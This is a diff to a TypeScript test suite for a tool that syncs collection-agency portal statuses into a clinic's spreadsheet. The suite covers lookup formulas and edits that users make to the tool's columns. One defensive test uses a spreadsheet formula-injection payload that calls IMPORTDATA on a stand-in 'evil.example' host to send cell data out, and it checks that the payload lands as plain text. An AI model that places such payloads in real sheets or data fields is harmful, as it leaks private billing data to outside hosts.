@@ -103,11 +103,21 @@ describe('the clinic’s own tab looks the status up, if a person agrees', () =>
     expect(await clinic.get('addLookup', {})).toEqual({ tab: 'Receivables', letter: 'I' });
     expect(formulas(clinic)).toEqual([
       '=ARRAYFORMULA(IF(ROW(E1:E)=ROW(E1);"Amiable: agency status";IF(E1:E="";;' +
-        `IFERROR(VLOOKUP(TRIM(E1:E&"");'At the portal'!$B:$F;5;0)))))`,
+        `IFERROR(VLOOKUP(TRIM(E1:E&"");FILTER('At the portal'!$B:$F;'At the portal'!$F:$F<>"");5;0)))))`,
     ]);
     expect(clinic.host.workbook.sheets[0]?.rows[0]?.[8]?.formula).toBeDefined();
     expect(valuesOf(clinic.host.workbook.sheets[0])).toEqual(before);
-    expect(await clinic.get('portal', {})).toMatchObject({ lookup: true });
+  });
+
+  test('is added once, and anew where the clinic has deleted or spoilt it', async () => {
+    const { clinic } = await placed();
+    await clinic.get('addLookup', {});
+    clinic.host.type(TAB, 'I1', 'Amiable: agency status'); // as Sheets calculates it
+    expect(await clinic.get('addLookup', {})).toEqual({ tab: 'Receivables', letter: 'I' });
+    expect(formulas(clinic)).toEqual([]);
+    clinic.host.type(TAB, 'I1', '#REF!'); // our tab was deleted
+    expect(await clinic.get('addLookup', {})).toEqual({ tab: 'Receivables', letter: 'J' });
+    expect(formulas(clinic)).toHaveLength(1);
   });
 
   test('by account, where the sheet has no invoice numbers', async () => {
@@ -116,7 +126,10 @@ describe('the clinic’s own tab looks the status up, if a person agrees', () =>
     );
     const { clinic } = await placed({ rows });
     await clinic.get('addLookup', {});
-    expect(formulas(clinic)?.[0]).toContain(`TRIM(A1:A&"");'At the portal'!$A:$F;6;0)`);
+    // of an account's lines those count that were ever placed
+    expect(formulas(clinic)?.[0]).toContain(
+      `TRIM(A1:A&"");FILTER('At the portal'!$A:$F;'At the portal'!$F:$F<>"");6;0)`,
+    );
   });
 
   test('never before there is something to look up', async () => {
@@ -156,4 +169,51 @@ test('a change in the sheet reaches our tab with the next sync', async () => {
   clinic.host.type(TAB, `${COLUMN.guarantor}3`, 'Bo Lind-Berg');
   await syncAll(clinic);
   expect(people(clinic)[2]?.[2]).toBe('Bo Lind-Berg');
+});
+
+test('nothing that a portal says becomes a formula in the sheet', async () => {
+  const { clinic, portal } = await placed();
+  const [ref = ''] = portal.cases.keys();
+  portal.change(ref, { number: '=1+1', currency: '=2+2' });
+  const made = '=IMPORTDATA("https://evil.example/"&C2)';
+  portal.cases.set(made, {
+    ...{ ref: made, number: '=3+3', agency: '=4+4', status: 'accepted', balance: 100 },
+    ...{ currency: 'USD', updatedOn: '2026-03-09', inPeace: true },
+  });
+  await syncAll(clinic);
+  const cells = clinic.ownTab('portal')?.rows.flat() ?? [];
+  expect(cells.flatMap((cell) => cell?.formula ?? [])).toEqual([]);
+  expect(cells.map((cell) => cell?.value)).toContain(made);
+});
+
+describe('what people do with the columns of our tab', () => {
+  test('deleting some costs nothing but the next sync', async () => {
+    const { clinic } = await placed();
+    const sheet = clinic.ownTab('portal');
+    if (!sheet) throw new Error('There is no portal tab');
+    sheet.rows = sheet.rows.map((row) => row.slice(0, 9));
+    sheet.maxColumns = 9;
+    expect(await clinic.refusal('reminders', {})).toBe('sync-first');
+    await syncAll(clinic);
+    expect((await clinic.get('cases', {})).cases).toHaveLength(1);
+  });
+
+  test('moving them changes nothing that is read from it', async () => {
+    const { clinic } = await placed();
+    const before = await clinic.get('cases', {});
+    const sheet = clinic.ownTab('portal');
+    if (!sheet) throw new Error('There is no portal tab');
+    sheet.rows = sheet.rows.map(([account, ...rest]) => [
+      ...rest.slice(0, 8),
+      account,
+      ...rest.slice(8),
+    ]);
+    expect(await clinic.get('cases', {})).toEqual(before);
+  });
+
+  test('a number beyond all sense in them stops nothing', async () => {
+    const { clinic } = await placed();
+    clinic.host.type(clinic.ownTab('portal')?.id ?? 0, 'G2', '99999999999999999');
+    expect((await clinic.get('cases', {})).cases).toHaveLength(1);
+  });
 });
